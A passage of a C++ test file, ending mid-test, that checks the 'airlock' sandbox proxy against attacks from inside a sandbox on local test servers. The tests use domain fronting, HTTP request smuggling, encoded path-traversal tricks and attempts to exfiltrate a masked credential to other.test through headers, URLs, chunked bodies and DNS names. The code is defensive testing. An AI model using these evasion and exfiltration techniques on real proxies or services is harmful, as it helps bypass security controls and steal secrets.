// Attacks on TLS inspection and masked credentials (THREATS.md, "Network"
// and "Credentials"), tried from inside a real sandbox against real HTTPS
// servers on the host. Every test does the allowed thing (which must work),
// then the attacks (which must fail with airlock's own refusal), and then
// reads the servers' own record: nothing forbidden may have arrived,
// whatever the client was told.
//
// The attacks are Python (stdlib) speaking CONNECT, SOCKS5 and TLS itself
// (kTlsPyLib), so they can send exactly the bytes a hostile client would.
// Each prints "LABEL RESULT"; RESULT is "STATUS X-PROXY-ERROR SERVER" for
// an HTTP answer (SERVER "-": airlock answered, not a server), or how the
// tunnel failed ("connect-403 needs-inspection", "socks-02", "tls-...",
// "closed").
#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "../integration/harness.h"
#include "../integration/net_support.h"
#include "../integration/tls_server.h"
#include "attack.h"

namespace airlock::test {
namespace {

using nlohmann::json;
using Results = std::map<std::string, std::string>;

// A TLS handshake that airlock cut off (the tunnel closed on the client).
const std::set<std::string> kTlsCut = {"tls-closed", "tls-unexpected_eof_while_reading", "tls-eof"};

}  // namespace

class TlsEscape : public TlsWorldTest {
 protected:
  // Every world port as P_<name>, for the Python side.
  static std::map<std::string, std::string> ports(std::map<std::string, std::string> env = {}) {
    for (const char* n : {"api", "plain", "other", "excl", "untrusted", "expired", "wrongname"})
      env[std::string("P_") + n] = port(n);
    return env;
  }
  // The same, as Python variables A (api), D (plain), B (other), E (excl).
  static constexpr const char* kPorts =
      "A, D, B, E = (int(os.environ['P_' + n]) for n in ('api', 'plain', 'other', 'excl'))\n"
      "HA, HD, HB, HE = 'api.test:%d' % A, 'api.test:%d' % D, 'other.test:%d' % B, 'excl.test:%d' % E\n";

  // No request whose text contains `needle` (case-insensitive) reached
  // any server other than those in `except`.
  void expect_never_arrived(const std::string& needle, const std::set<std::string>& except = {}) {
    for (const auto& h : w().hits()) {
      if (!except.count(h.server) && (h.ev == "head" || h.ev == "req")) {
        EXPECT_TRUE(lacks(lower(h.text()), lower(needle))) << h.line();
      }
    }
  }
  // No request on `server` (any, if empty) whose path contains `needle`.
  void expect_no_path(const std::string& server, const std::string& needle) {
    for (const auto& h : w().hits(server))
      EXPECT_TRUE(h.path.find(needle) == std::string::npos) << "reached the server: " << h.line();
  }
};

// ---------------------------------------------------------------------------
// Domain fronting.

// A TLS server name that is not the CONNECT target. Inspected: the client
// gets a certificate for the name it asked for, then 421 for its request.
// Excluded (opaque): airlock reads the ClientHello and closes the tunnel;
// here other.test is in the excluded server's certificate, so only
// airlock's check stands between the client and that server.
TEST_F(TlsEscape, FrontingByTlsServerNameIsRefused) {
  std::string audit = t.fx.tree.path("audit.jsonl");
  auto s = t.settings({}, nullptr, {{"excludeDomains", {"excl.test"}}, {"extraCaCertPaths", {w().pki().ca}}});
  auto r = t.py(s, std::string(kPorts) +
                       "run_all([\n"
                       "  ('inspected-ok', https, 'api.test', A, req('GET', '/sni-ok', HA)),\n"
                       "  ('inspected-upper-ok', https, 'api.test', A, req('GET', '/sni-upper-ok', HA), 'API.Test'),\n"
                       "  ('inspected-evil', https, 'api.test', A, req('GET', '/front-sni-evil', HA), 'evil.test'),\n"
                       "  ('inspected-other', https, 'api.test', A, req('GET', '/front-sni-other', HA), 'other.test'),\n"
                       "  ('inspected-other-host', https, 'api.test', A, req('GET', '/front-sni-host', HB), 'other.test'),\n"
                       "  ('inspected-socks', https, 'api.test', A, req('GET', '/front-sni-socks', HA), 'evil.test', 'socks'),\n"
                       "  ('excluded-ok', https, 'excl.test', E, req('GET', '/sni-excl-ok', HE)),\n"
                       "  ('excluded-evil', https, 'excl.test', E, req('GET', '/front-excl-evil', 'evil.test'), 'evil.test'),\n"
                       "  ('excluded-other', https, 'excl.test', E, req('GET', '/front-excl-other', HB), 'other.test'),\n"
                       "  ('excluded-socks', https, 'excl.test', E, req('GET', '/front-excl-socks', HB), 'other.test', 'socks'),\n"
                       "])\n",
                ports(), {"--audit", audit});
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "inspected-ok", {"200 - api"}));
  EXPECT_TRUE(is(res, "inspected-upper-ok", {"200 - api"}));
  EXPECT_TRUE(is(res, "excluded-ok", {"200 - excl"}));
  for (const char* l : {"inspected-evil", "inspected-other", "inspected-other-host", "inspected-socks"})
    EXPECT_TRUE(is(res, l, {"421 host-mismatch -"}));
  for (const char* l : {"excluded-evil", "excluded-other", "excluded-socks"}) EXPECT_TRUE(is(res, l, kTlsCut));

  expect_no_path("", "/front");
  for (const auto& h : w().hits()) {
    if (h.ev == "open") {
      EXPECT_EQ(h.sni, h.server + ".test") << "a fronted handshake reached a server: " << h.line();
    }
  }
  bool audited = false;
  for (const auto& l : audit_lines(audit, /*strict=*/false))
    audited |= l.value("host", "") == "excl.test" && l.value("decision", "") == "deny" &&
               l.value("rule", "").find("domain fronting") != std::string::npos;
  EXPECT_TRUE(audited) << slurp(audit);
}

// Inside an inspected tunnel to api.test, requests that name another host:
// the Host header, an absolute-form URL, a second request on a kept-alive
// connection, and a request smuggled behind ambiguous framing.
TEST_F(TlsEscape, FrontingByHostHeaderOrUrlInsideTheTunnelIsRefused) {
  auto s = t.settings();
  auto r = t.py(s, std::string(kPorts) +
                       "smuggle = ('POST /smuggle-outer HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 49\\r\\n'\n"
                       "           'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /front-smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' % HA)\n"
                       "run_all([\n"
                       "  ('host-ok', https, 'api.test', A, req('GET', '/host-ok', HA)),\n"
                       "  ('host-case-ok', https, 'api.test', A, req('GET', '/host-case-ok', 'API.Test.:%d' % A)),\n"
                       "  ('url-ok', https, 'api.test', A, req('GET', 'https://%s/url-ok' % HA, HA)),\n"
                       "  ('host-evil', https, 'api.test', A, req('GET', '/front-host-evil', 'evil.test')),\n"
                       "  ('host-other', https, 'api.test', A, req('GET', '/front-host-other', HB)),\n"
                       "  ('host-other-port', https, 'api.test', A, req('GET', '/front-host-port', 'api.test:%d' % B)),\n"
                       "  ('host-default-port', https, 'api.test', A, req('GET', '/front-host-default', 'api.test')),\n"
                       "  ('host-none', https, 'api.test', A, req('GET', '/front-host-none', None)),\n"
                       "  ('host-two', https, 'api.test', A, req('GET', '/front-host-two', HA, ['Host: evil.test'])),\n"
                       "  ('host-userinfo', https, 'api.test', A, req('GET', '/front-host-userinfo', HA + '@evil.test')),\n"
                       "  ('url-other', https, 'api.test', A, req('GET', 'https://%s/front-url-other' % HB, HB)),\n"
                       "  ('url-other-host-ok', https, 'api.test', A, req('GET', 'https://%s/front-url-mixed' % HB, HA)),\n"
                       "  ('url-http', https, 'api.test', A, req('GET', 'http://evil.test/front-url-http', HA)),\n"
                       "  ('url-userinfo', https, 'api.test', A, req('GET', 'https://%s@evil.test/front-url-userinfo' % HA, HA)),\n"
                       "  ('keepalive', https_keepalive, 'api.test', A,\n"
                       "   [req('GET', '/ka-1', HA, close=False), req('GET', '/front-ka-2', 'evil.test', close=False)]),\n"
                       "  ('smuggle', https, 'api.test', A, smuggle),\n"
                       "])\n",
                ports());
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"host-ok", "host-case-ok", "url-ok"}) EXPECT_TRUE(is(res, l, {"200 - api"}));
  for (const char* l : {"host-evil", "host-other", "host-other-port", "host-default-port", "host-none", "url-other",
                        "url-other-host-ok"})
    EXPECT_TRUE(is(res, l, {"421 host-mismatch -"}));
  for (const char* l : {"host-userinfo", "url-userinfo"})
    EXPECT_TRUE(is(res, l, {"421 host-mismatch -", "400 bad-request -"}));
  for (const char* l : {"host-two", "url-http", "smuggle"}) EXPECT_TRUE(is(res, l, {"400 bad-request -"}));
  EXPECT_TRUE(is(res, "keepalive", {"200 - api,421 host-mismatch -"}));
  expect_no_path("", "front");
  expect_no_path("", "smuggle");
  std::set<std::string> paths;
  for (const auto& h : w().requests("api")) paths.insert(h.path);
  EXPECT_EQ(paths, (std::set<std::string>{"/host-ok", "/host-case-ok", "/url-ok", "/ka-1"})) << w().log();
}

// ---------------------------------------------------------------------------
// Request rules.

// Paths that a server could read as something the rules refuse: every
// spelling is judged after percent-decoding, or refused as ambiguous (dot
// segments, ';' parameters, encoded '/', '\\' or '%', '//', control
// characters, bad escapes), and never reaches the server. The same for
// methods spelled in lower case.
TEST_F(TlsEscape, RequestRulePathAndMethodTricksNeverReachTheServer) {
  std::string api = hp("api");
  auto s = t.settings({{"requestRules",
                        {{{"host", api}, {"allow", {"GET,POST /repos/acme/*"}}, {"deny", {"* /repos/acme/secret*"}}}}}});
  auto r = t.py(s, std::string(kPorts) +
                       "def g(path, method='GET'):\n"
                       "    return https('api.test', A, req(method, path, HA))\n"
                       "run_all([\n"
                       "  ('ok', g, '/repos/acme/widget'),\n"
                       "  ('ok-post', g, '/repos/acme/widget-post', 'POST'),\n"
                       "  ('denied', g, '/repos/acme/secret-plain'),\n"
                       "  ('dotdot', g, '/repos/acme/../evil-dotdot'),\n"
                       "  ('dotdot-deep', g, '/repos/acme/x/../../../evil-deep'),\n"
                       "  ('dotdot-enc', g, '/repos/acme/%2e%2e/evil-enc'),\n"
                       "  ('dotdot-enc-upper', g, '/repos/acme/%2E%2E/evil-enc-upper'),\n"
                       "  ('dotdot-half-enc', g, '/repos/acme/.%2e/evil-half'),\n"
                       "  ('deny-enc', g, '/repos/acme/%73ecret-enc'),\n"
                       "  ('deny-dots', g, '/repos/acme/x/../secret-dots'),\n"
                       "  ('slash-enc', g, '/repos/acme%2f..%2fevil-slash-enc'),\n"
                       "  ('slash-enc-upper', g, '/repos/acme/..%2Fevil-slash-upper'),\n"
                       "  ('double-slash', g, '/repos/acme//../evil-double-slash'),\n"
                       "  ('dotdot-semicolon', g, '/repos/acme/..;/evil-semicolon'),\n"
                       "  ('dot-semicolon', g, '/repos/acme/.;/secret-dot-semicolon'),\n"
                       "  ('backslash', g, '/repos/acme/..\\\\evil-backslash'),\n"
                       "  ('backslash-enc', g, '/repos/acme/..%5cevil-backslash-enc'),\n"
                       "  ('double-enc', g, '/repos/acme/%252e%252e/evil-double-enc'),\n"
                       "  ('above-root', g, '/../repos/acme/evil-above-root'),\n"
                       "  ('nul', g, '/repos/acme/%00/../../evil-nul'),\n"
                       "  ('bad-escape', g, '/repos/acme/%zz/../../evil-bad-escape'),\n"
                       "  ('lower-get', g, '/evil-lower-get', 'get'),\n"
                       "  ('lower-post', g, '/repos/acme/evil-lower-post', 'post'),\n"
                       "  ('delete', g, '/repos/acme/evil-delete', 'DELETE'),\n"
                       "  ('abs-dotdot', https, 'api.test', A, req('GET', 'https://%s/repos/acme/../evil-abs' % HA, HA)),\n"
                       "])\n",
                ports());
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"ok", "ok-post"}) EXPECT_TRUE(is(res, l, {"200 - api"}));
  for (const char* l : {"denied", "deny-enc", "delete"}) EXPECT_TRUE(is(res, l, {"403 blocked-by-request-rule -"}));
  // A method in lower case matches no rule's method, or is refused as ambiguous.
  for (const char* l : {"lower-get", "lower-post"})
    EXPECT_TRUE(is(res, l, {"403 blocked-by-request-rule -", "400 ambiguous-path -", "400 bad-request -"}));
  // Dot segments: resolved and judged, or refused outright as ambiguous.
  for (const char* l : {"dotdot", "dotdot-deep", "dotdot-enc", "dotdot-enc-upper", "dotdot-half-enc", "deny-dots", "abs-dotdot"})
    EXPECT_TRUE(is(res, l, {"403 blocked-by-request-rule -", "400 ambiguous-path -"}));
  for (const char* l : {"slash-enc", "slash-enc-upper", "double-slash", "dotdot-semicolon", "dot-semicolon",
                        "backslash-enc", "double-enc", "above-root", "nul", "bad-escape"})
    EXPECT_TRUE(is(res, l, {"400 ambiguous-path -"}));
  // (A raw backslash may already fail the HTTP parser.)
  EXPECT_TRUE(is(res, "backslash", {"400 ambiguous-path -", "400 bad-request -"}));
  expect_no_path("api", "evil");
  expect_no_path("api", "ecret");
  std::set<std::string> paths;
  for (const auto& h : w().requests("api")) paths.insert(h.method + " " + h.path);
  EXPECT_EQ(paths, (std::set<std::string>{"GET /repos/acme/widget", "POST /repos/acme/widget-post"})) << w().log();
}

// A host with deny lines only: everything else passes, but the denied
// request may not arrive in another spelling either (dot segments, an
// escaped letter, a query, the method in another case).
TEST_F(TlsEscape, DenyOnlyRulesCannotBeDodgedBySpelling) {
  auto s = t.settings({{"requestRules", {{{"host", hp("other")}, {"deny", {"POST /v1/files", "DELETE /v1/*"}}}}}});
  auto r = t.py(s, std::string(kPorts) +
                       "def o(path, method='POST'):\n"
                       "    return https('other.test', B, req(method, path, HB, body='x'))\n"
                       "run_all([\n"
                       "  ('ok', o, '/v1/messages'),\n"
                       "  ('denied', o, '/v1/files'),\n"
                       "  ('dots', o, '/v1/x/../files'),\n"
                       "  ('enc', o, '/v1/%66iles'),\n"
                       "  ('query', o, '/v1/files?purpose=x'),\n"
                       "  ('delete', o, '/v1/anything', 'DELETE'),\n"
                       "  ('lower', o, '/v1/files', 'post'),\n"
                       "  ('mixed', o, '/v1/files', 'Post'),\n"
                       "  ('lower-delete', o, '/v1/anything', 'delete'),\n"
                       "])\n",
                ports());
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "ok", {"200 - other"}));
  for (const char* l : {"denied", "enc", "query", "delete"}) EXPECT_TRUE(is(res, l, {"403 blocked-by-request-rule -"}));
  EXPECT_TRUE(is(res, "dots", {"403 blocked-by-request-rule -", "400 ambiguous-path -"}));
  // A method's case: a server that folds it would run "post" as POST.
  for (const char* l : {"lower", "mixed", "lower-delete"})
    EXPECT_TRUE(is(res, l, {"403 blocked-by-request-rule -", "400 ambiguous-path -", "400 bad-request -"}));
  auto reqs = w().requests("other");
  ASSERT_EQ(reqs.size(), 1u) << w().log();
  EXPECT_EQ(reqs[0].path, "/v1/messages");
}

// Request rules bind plain HTTP too: the same tricks, through the proxy in
// the clear.
TEST_F(TlsEscape, RequestRulesBindPlainHttpToo) {
  auto s = t.settings({{"requestRules", {{{"host", hp("plain")}, {"allow", {"GET /repos/acme/*"}}}}}});
  auto r = t.py(s, std::string(kPorts) +
                       "def p(path, method='GET'):\n"
                       "    return plain(req(method, 'http://%s%s' % (HD, path), HD))\n"
                       "run_all([\n"
                       "  ('ok', p, '/repos/acme/widget'),\n"
                       "  ('dotdot', p, '/repos/acme/../evil-dotdot'),\n"
                       "  ('dotdot-enc', p, '/repos/acme/%2e%2e/evil-enc'),\n"
                       "  ('slash-enc', p, '/repos/acme%2f..%2fevil-slash'),\n"
                       "  ('lower', p, '/repos/acme/evil-lower', 'get'),\n"
                       "])\n",
                ports());
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "ok", {"200 - plain"}));
  for (const char* l : {"dotdot", "dotdot-enc"})
    EXPECT_TRUE(is(res, l, {"403 blocked-by-request-rule -", "400 ambiguous-path -"}));
  EXPECT_TRUE(is(res, "slash-enc", {"400 ambiguous-path -"}));
  EXPECT_TRUE(is(res, "lower", {"403 blocked-by-request-rule -", "400 ambiguous-path -", "400 bad-request -"}));
  expect_no_path("plain", "evil");
}

// maxBodyBytes: a body announced too long never leaves; a chunked one is
// cut off once it passes the cap, and the server never gets it whole.
TEST_F(TlsEscape, MaxBodyBytesCutsOffChunkedUploads) {
  auto s = t.settings({{"requestRules", {{{"host", hp("api")}, {"allow", {"POST /upload*"}}, {"maxBodyBytes", 100}}}}});
  auto r = t.py(s, std::string(kPorts) +
                       "run_all([\n"
                       "  ('small', https, 'api.test', A, req('POST', '/upload-small', HA, body='s' * 100)),\n"
                       "  ('big', https, 'api.test', A, req('POST', '/upload-big', HA, body='b' * 101)),\n"
                       "  ('chunked-small', https, 'api.test', A, chunked('POST', '/upload-chunked-small', HA, ['c' * 50, 'c' * 50])),\n"
                       "  ('chunked-big', https, 'api.test', A, chunked('POST', '/upload-chunked-big', HA, ['d' * 60, 'd' * 60, 'd' * 60])),\n"
                       "  ('chunked-one', https, 'api.test', A, chunked('POST', '/upload-chunked-one', HA, ['e' * 5000])),\n"
                       "])\n",
                ports());
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"small", "chunked-small"}) EXPECT_TRUE(is(res, l, {"200 - api"}));
  EXPECT_TRUE(is(res, "big", {"413 body-too-large -"}));
  for (const char* l : {"chunked-big", "chunked-one"}) EXPECT_TRUE(is(res, l, {"413 body-too-large -", "closed"}));
  std::map<std::string, Hit> by_path;
  for (const auto& h : w().requests("api")) by_path[h.path] = h;
  EXPECT_EQ(by_path["/upload-small"].body.size(), 100u) << w().log();
  EXPECT_EQ(by_path["/upload-chunked-small"].body.size(), 100u) << w().log();
  EXPECT_FALSE(by_path.count("/upload-big")) << w().log();
  for (const char* p : {"/upload-chunked-big", "/upload-chunked-one"}) {
    if (!by_path.count(p)) continue;  // cut off before the header left: fine too
    EXPECT_FALSE(by_path[p].complete) << by_path[p].line();
    EXPECT_LE(by_path[p].body.size(), 100u) << by_path[p].line();
  }
}

// A host with request rules or verified credentials cannot be reached
// through a tunnel airlock does not inspect: excluded, TLS inspection off,
// or not TLS at all.
TEST_F(TlsEscape, HostsThatNeedInspectionRefuseUninspectedTunnels) {
  auto s = t.settings({{"requestRules", {{{"host", hp("excl")}, {"allow", {"GET /*"}}}, {{"host", hp("plain")}, {"allow", {"GET /*"}}}}}},
                      {{"envVars", {mask("API_TOKEN", {hp("api")})}}, {"verifyHosts", {hp("other")}}},
                      {{"excludeDomains", {"excl.test", "other.test"}}, {"extraCaCertPaths", {w().pki().ca}}});
  std::string body = std::string(kPorts) +
                     "def clear(host, port, via='connect'):\n"
                     "    s, err = tunnel(host, port, via)\n"
                     "    if err: return err\n"
                     "    s.sendall(req('GET', '/needs-inspection-clear', '%s:%d' % (host, port)))\n"
                     "    return fmt(read_response(s))\n"
                     "run_all([\n"
                     "  ('ok', https, 'api.test', A, req('GET', '/inspected-ok', HA)),\n"
                     "  ('excluded-rules', https, 'excl.test', E, req('GET', '/needs-inspection-excl', HE)),\n"
                     "  ('excluded-rules-socks', https, 'excl.test', E, req('GET', '/needs-inspection-socks', HE), None, 'socks'),\n"
                     "  ('excluded-verified', https, 'other.test', B, req('GET', '/needs-inspection-other', HB)),\n"
                     "  ('clear-rules', clear, 'api.test', D),\n"
                     "  ('clear-rules-socks', clear, 'api.test', D, 'socks'),\n"
                     "])\n";
  auto r = t.py(s, body, ports({{"API_TOKEN", fake_secret("sk-ant-api03-", "REALneeds")}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "ok", {"200 - api"}));
  for (const char* l : {"excluded-rules", "excluded-verified"}) EXPECT_TRUE(is(res, l, {"connect-403 needs-inspection"}));
  EXPECT_TRUE(is(res, "excluded-rules-socks", {"socks-02"}));
  for (const char* l : {"clear-rules", "clear-rules-socks"}) EXPECT_TRUE(is(res, l, {"closed"}));

  // Without tlsTerminate at all.
  auto off = t.settings({{"requestRules", {{{"host", hp("api")}, {"allow", {"GET /*"}}}}}}, nullptr, {}, false);
  auto r2 = t.py(off, std::string(kPorts) + "print('off', https('api.test', A, req('GET', '/needs-inspection-off', HA)))\n",
                 ports());
  EXPECT_EQ(r2.code, 0) << r2.err;
  EXPECT_TRUE(is(parse_results(r2.out), "off", {"connect-403 needs-inspection"}));

  expect_no_path("", "needs-inspection");
  for (const char* n : {"excl", "other"}) EXPECT_TRUE(w().hits(n).empty()) << w().log(n);
}

// verifyHosts holds whether or not the masked variable happens to be set
// (in CI, say): with nothing to mask, no credential header is the user's
// own, so every one is refused there. (An earlier build dropped verifyHosts
// along with the empty secret table, and the attacker's token went through.)
TEST_F(TlsEscape, VerifyHostsHoldWhenTheMaskedVariableIsUnset) {
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api")})}}, {"verifyHosts", {hp("api"), hp("other")}}});
  auto r = t.py(s, std::string(kPorts) +
                       "bad = ['Authorization: Bearer attacker-token-0123456789abcdef']\n"
                       "run_all([\n"
                       "  ('no-credential', https, 'api.test', A, req('GET', '/unset-ok', HA)),\n"
                       "  ('api', https, 'api.test', A, req('GET', '/unset-foreign', HA, bad)),\n"
                       "  ('other', https, 'other.test', B, req('GET', '/unset-foreign', HB, bad)),\n"
                       "])\n",
                ports({{"API_TOKEN", ""}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "no-credential", {"200 - api"}));
  for (const char* l : {"api", "other"}) EXPECT_TRUE(is(res, l, {"403 foreign-credential -"}));
  expect_never_arrived("attacker-token");
}

// refuseOpaqueTunnels: with inspection on, only inspected TLS passes (an
// excluded host and clear text through a tunnel are closed after the
// 200); with it off, TLS passes opaquely but clear text still does not.
TEST_F(TlsEscape, RefuseOpaqueTunnelsClosesWhatAirlockCannotRead) {
  std::string body = std::string(kPorts) +
                     "def clear(host, port, via='connect'):\n"
                     "    s, err = tunnel(host, port, via)\n"
                     "    if err: return err\n"
                     "    s.sendall(req('GET', '/opaque-clear', '%s:%d' % (host, port)))\n"
                     "    return fmt(read_response(s))\n"
                     "# Is the certificate the client gets the server's own (signed by the test CA)?\n"
                     "def peer(host, port):\n"
                     "    import subprocess\n"
                     "    s, err = tunnel(host, port)\n"
                     "    if err: return err\n"
                     "    c = ssl.create_default_context()\n"
                     "    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE\n"
                     "    t = c.wrap_socket(s, server_hostname=host)\n"
                     "    t.sendall(req('GET', '/opaque-peer', '%s:%d' % (host, port)))\n"
                     "    open('/tmp/peer.pem', 'w').write(ssl.DER_cert_to_PEM_cert(t.getpeercert(True)))\n"
                     "    o = subprocess.run(['openssl', 'verify', '-CAfile', os.environ['CA'], '/tmp/peer.pem'], capture_output=True)\n"
                     "    return 'test-ca-signed=%s %s' % (o.returncode == 0, fmt(read_response(t)))\n"
                     "run_all([\n"
                     "  ('inspected', https, 'api.test', A, req('GET', '/opaque-inspected', HA)),\n"
                     "  ('excluded', https, 'excl.test', E, req('GET', '/opaque-excluded', HE)),\n"
                     "  ('clear', clear, 'api.test', D),\n"
                     "  ('clear-socks', clear, 'api.test', D, 'socks'),\n"
                     "  ('peer', peer, 'api.test', A),\n"
                     "])\n";
  auto on = t.settings({{"refuseOpaqueTunnels", true}}, nullptr,
                       {{"excludeDomains", {"excl.test"}}, {"extraCaCertPaths", {w().pki().ca}}});
  auto r = t.py(on, body, ports({{"CA", w().pki().ca}}));
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(is(res, "inspected", {"200 - api"}));
  EXPECT_TRUE(is(res, "excluded", kTlsCut));
  for (const char* l : {"clear", "clear-socks"}) EXPECT_TRUE(is(res, l, {"closed"}));
  // The certificate the client saw is airlock's, not the server's: the
  // connection was inspected, not passed through.
  EXPECT_TRUE(is(res, "peer", {"test-ca-signed=False 200 - api"}));
  // (airlock connects upstream before it answers CONNECT: the excluded
  // server may see a connection, but never the client's handshake.)
  for (const auto& h : w().hits("excl")) EXPECT_NE(h.ev, "open") << h.line();
  EXPECT_TRUE(w().requests("plain").empty()) << w().log("plain");

  w().reset();
  auto off = t.settings({{"refuseOpaqueTunnels", true}}, nullptr, {}, false);
  auto r2 = t.py(off, body, ports({{"CA", w().pki().ca}}));
  EXPECT_EQ(r2.code, 0) << r2.err;
  auto res2 = parse_results(r2.out);
  EXPECT_TRUE(is(res2, "peer", {"test-ca-signed=True 200 - api"}));
  for (const char* l : {"clear", "clear-socks"}) EXPECT_TRUE(is(res2, l, {"closed"}));
  EXPECT_TRUE(w().requests("plain").empty()) << w().log("plain");
}

// A client that gives up on the TLS handshake with airlock (it does not
// trust airlock's CA, or sends half a ClientHello and hangs up) gets its
// connection closed; the proxy, the sandbox and the other connections
// carry on. (An earlier build crashed here: the SNI callback's pointer was
// left in the SSL object's app data, which Boost.Asio's stream deleted.)
TEST_F(TlsEscape, AClientThatAbortsTheHandshakeDoesNotBringDownTheProxy) {
  t.fx.tree.write("ws/test-ca.pem", slurp(w().pki().ca));
  auto s = t.settings();
  auto r = t.sh(s, "curl -sS -o /dev/null https://" + hp("api") + "/aborted --cacert test-ca.pem; echo aborted=$?\n"
                   "printf 'CONNECT " + hp("api") + " HTTP/1.1\\r\\n\\r\\n\\026\\003\\001\\000\\100' | "
                   "/usr/bin/python3 -c 'import socket,sys; s=socket.create_connection((\"127.0.0.1\",3128)); "
                   "s.sendall(sys.stdin.buffer.read()); s.close()'\n"
                   "curl -sS -o /dev/null -w 'after=%{http_code}\\n' https://" + hp("api") + "/after\n");
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(contains(r.out, "aborted=60\n"));
  EXPECT_TRUE(contains(r.out, "after=200\n"));
  EXPECT_EQ(w().requests("api").size(), 1u) << w().log();
}

// ---------------------------------------------------------------------------
// Placeholders on their way elsewhere.

// The placeholder of a secret bound to api.test, sent anywhere else by
// every channel a client has: headers (plain, Basic, cookies), the URL,
// the body (whole, or split across chunks so that no chunk holds it), the
// host name itself (split by dots and dashes, case changed), plain HTTP
// to the bound host itself, SOCKS. Each is refused as exfiltration, and
// no server ever gets the placeholder.
TEST_F(TlsEscape, PlaceholdersSentToUnboundHostsAreRefused) {
  std::string real = fake_secret("sk-ant-api03-", "REALexfil");
  std::string audit = t.fx.tree.path("audit.jsonl");
  auto s = t.settings({}, {{"envVars", {mask("API_TOKEN", {hp("api"), hp("plain")})}}});
  auto r = t.py(s, std::string(kPorts) +
                       "print('ph=' + PH)\n"
                       "t = tail16(PH)\n"
                       "# Into a DNS name: split by a dot and a dash, case changed.\n"
                       "sneaky = '%s.%s-%s.other.test' % (t[:5], t[5:11].upper(), t[11:])\n"
                       "def auth(v): return ['Authorization: ' + v]\n"
                       "def o(raw, via='connect'): return https('other.test', B, raw, None, via)\n"
                       "def opened(host, port, via='connect'):\n"
                       "    s, err = tunnel(host, port, via)\n"
                       "    return err or 'opened'\n"
                       "run_all([\n"
                       "  ('ok', https, 'api.test', A, req('GET', '/exfil-ok', HA, auth('Bearer ' + PH))),\n"
                       "  ('ok-socks', https, 'api.test', A, req('GET', '/exfil-ok-socks', HA, auth('Bearer ' + PH)), None, 'socks'),\n"
                       "  ('header-auth', o, req('GET', '/x-auth', HB, auth('Bearer ' + PH))),\n"
                       "  ('header-custom', o, req('GET', '/x-custom', HB, ['X-Data: ' + PH])),\n"
                       "  ('header-cookie', o, req('GET', '/x-cookie', HB, ['Cookie: a=1; s=' + PH])),\n"
                       "  ('header-user-agent', o, req('GET', '/x-ua', HB, ['User-Agent: curl ' + PH])),\n"
                       "  ('basic-password', o, req('GET', '/x-basic', HB, auth('Basic ' + b64('user:' + PH)))),\n"
                       "  ('basic-user', o, req('GET', '/x-basic-user', HB, auth('basic ' + b64(PH + ':x')))),\n"
                       "  ('url-path', o, req('GET', '/x-path/' + PH, HB)),\n"
                       "  ('url-query', o, req('GET', '/x-query?k=' + PH, HB)),\n"
                       "  ('url-absolute', o, req('GET', 'https://%s/x-abs?k=%s' % (HB, PH), HB)),\n"
                       "  ('body', o, req('POST', '/x-body', HB, body='data=' + PH)),\n"
                       "  ('body-chunked', o, chunked('POST', '/x-chunked', HB, ['a=' + PH[:20], PH[20:] + '&b=1'])),\n"
                       "  ('body-chunked-3', o, chunked('POST', '/x-chunked-3', HB, [PH[:10], PH[10:30], PH[30:]])),\n"
                       "  ('body-trailer', o, req('POST', '/x-trailer', HB, ['Transfer-Encoding: chunked'])\n"
                       "   + b'4\\r\\ndata\\r\\n0\\r\\nX-Trailer: ' + PH.encode() + b'\\r\\n\\r\\n'),\n"
                       "  ('body-second-request', https_keepalive, 'other.test', B,\n"
                       "   [req('POST', '/x-ka-1', HB, body='fine', close=False), req('POST', '/x-ka-2', HB, body=PH, close=False)]),\n"
                       "  ('socks-header', o, req('GET', '/x-socks', HB, auth('Bearer ' + PH)), 'socks'),\n"
                       "  ('name-connect', opened, sneaky, B),\n"
                       "  ('name-socks', opened, sneaky, B, 'socks'),\n"
                       "  ('name-plain', plain, req('GET', 'http://%s:%d/x-name' % (sneaky, D), '%s:%d' % (sneaky, D))),\n"
                       "  ('name-upper-connect', opened, t.upper() + '.other.test', B),\n"
                       "  ('plain-bound', plain, req('GET', 'http://%s/x-plain' % HD, HD, auth('Bearer ' + PH))),\n"
                       "  ('plain-bound-body', plain, req('POST', 'http://%s/x-plain-body' % HD, HD, body=PH)),\n"
                       "  ('plain-bound-url', plain, req('GET', 'http://%s/x-plain-url?k=%s' % (HD, PH), HD)),\n"
                       "])\n",
                ports({{"API_TOKEN", real}}), {"--audit", audit});
  EXPECT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  std::string ph = value_of(r.out, "ph");
  ASSERT_EQ(ph.size(), real.size()) << r.out;
  EXPECT_TRUE(is(res, "ok", {"200 - api"}));
  EXPECT_TRUE(is(res, "ok-socks", {"200 - api"}));
  int refusals = 0;
  for (const char* l : {"header-auth", "header-custom", "header-cookie", "header-user-agent", "basic-password", "basic-user",
                        "url-path", "url-query", "url-absolute", "body", "body-chunked", "body-chunked-3", "socks-header",
                        "name-plain", "plain-bound", "plain-bound-body", "plain-bound-url"}) {
    EXPECT_TRUE(is(res, l, {"403 exfiltration -"}));
    ++refusals;
  }
  EXPECT_TRUE(is(res, "body-second-request", {"200 - other,403 exfiltration -"}));
